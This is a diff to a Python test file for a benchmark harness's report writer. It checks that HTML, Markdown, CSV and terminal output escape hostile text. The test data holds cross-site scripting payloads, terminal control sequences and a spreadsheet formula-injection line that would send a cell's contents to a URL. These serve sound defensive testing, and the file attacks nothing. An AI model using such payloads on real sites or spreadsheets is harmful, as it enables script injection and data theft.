@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from dataclasses import replace
 from pathlib import Path
@@ -10,14 +12,22 @@ import pytest
 from reprobench.harness.base.errors import InputError
 from reprobench.harness.judging.evidence import gather
 from reprobench.harness.reporting.page.document import write_report
+from reprobench.harness.reporting.page.terminal import Report, show_report
 from reprobench.harness.results.ledger import Ledger
 from reprobench.harness.study.declaration import Claim, Study
 from reprobench.harness.study.file import find_study, load_study
 from reprobench.harness.study.recipe import Recipe
+from rich.console import Console
 from scripted import scripted_record
 
+pytestmark = pytest.mark.usefixtures("no_images")
+
 SCRIPT = "<script>alert(1)</script>"
-HOSTILE = f"{SCRIPT} [link](javascript:alert(1)) <img src=x onerror=alert(1)> | a | `b` \x1b[31m"
+CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+HOSTILE = (
+    f"{SCRIPT} [link](javascript:alert(1)) <img src=x onerror=alert(1)> | a | `b` "
+    "\x1b[31m\x07\x9b \u202e"
+)
 
 
 @pytest.mark.parametrize(
@@ -34,25 +44,75 @@ def test_names_that_are_refused(name: str, tmp_path: Path) -> None:
 
 
 def test_words_that_are_harmless(tiny: Study, ledger: Ledger, tmp_path: Path) -> None:
+    """Hostile text in every place of a study file and a record that holds text."""
     recipe: Recipe = tiny.recipes[1]
     study = replace(
         tiny,
-        notes=HOSTILE + "a" * 10_000,
+        notes=HOSTILE + "\n# heading\n" + "a" * 10_000,
         published={recipe.name: (240, 250)},
         claims=(Claim(recipe=recipe.name, words=HOSTILE, about="hold rate"),),
     )
+    environment = {
+        "native_engine": HOSTILE,
+        "commit": "<b>1</b>",
+        "dirty": True,
+        "python": HOSTILE,
+        "packages": {"torch": HOSTILE, HOSTILE: "1"},
+        "platform": HOSTILE,
+        "processor": HOSTILE,
+    }
     for run in study.runs():
-        ledger.write(scripted_record(run, [240, 260], data_set="digits"))
+        made = scripted_record(
+            run, [240, 260], data_set="digits", engine=(HOSTILE, HOSTILE), **environment
+        )
+        ledger.write(made)
     broken = replace(study, seeds=(1, 2, 3)).runs()[-1]
     ledger.write(
-        scripted_record(broken, (), status="failed", error=HOSTILE + "\nnext", data_set="digits")
-    )
+        scripted_record(
+            broken, (), status="failed", error=HOSTILE + "\nnext", data_set="digits",
+            engine=(HOSTILE, HOSTILE),
+        )
+    )  # fmt: skip
     study = replace(study, seeds=(1, 2, 3))
-    report = write_report(gather(study, ledger), tmp_path / "out").folder
-    page, markdown = ((report / f"report.{kind}").read_text() for kind in ("html", "md"))
+    written = write_report(gather(study, ledger), tmp_path / "out")
+    page, markdown = ((written.folder / f"report.{kind}").read_text() for kind in ("html", "md"))
     for text in (page, markdown):
         assert SCRIPT not in text
         assert "<img src=x" not in text
-        assert "\x1b" not in text
+        assert "<b>1</b>" not in text
+        assert not CONTROLS.search(text)
         assert "alert(1)" in text  # it is shown, and does nothing
     assert not re.search(r"(?<!\\)\[link\]\(", markdown)
+    assert "\n# heading" not in markdown
+    for path in written.folder.glob("*.csv"):
+        assert not CONTROLS.search(path.read_text()), path.name
+    assert not CONTROLS.search(in_a_terminal(written))
+
+
+def in_a_terminal(report: Report) -> str:
+    output = io.StringIO()
+    show_report(report, Console(file=output, width=100))
+    return output.getvalue()
+
+
+def test_claims_are_no_formulas(tiny: Study, ledger: Ledger, tmp_path: Path) -> None:
+    recipe: Recipe = tiny.recipes[1]
+    words = '=HYPERLINK("http://example.org/?"&A1)\x07'
+    claim = Claim(recipe=recipe.name, words=words, about="hold rate")
+    study = replace(tiny, published={recipe.name: (240, 250)}, claims=(claim,))
+    for run in study.runs():
+        ledger.write(scripted_record(run, [240, 260], data_set="digits"))
+    folder = write_report(gather(study, ledger), tmp_path / "out").folder
+    with (folder / "claims.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["words"] == '\'=HYPERLINK("http://example.org/?"&A1) '
+
+
+@pytest.mark.parametrize("environment", [{}, {"packages": 7}, {"packages": [], "commit": 5}])
+def test_an_environment_may_hold_anything(
+    environment: dict[str, object], tiny: Study, ledger: Ledger, tmp_path: Path
+) -> None:
+    for run in tiny.runs():
+        ledger.write(scripted_record(run, [240, 260], data_set="digits", **environment))
+    folder = write_report(gather(tiny, ledger), tmp_path / "out").folder
+    assert "processor unknown (unknown)" in (folder / "report.md").read_text()
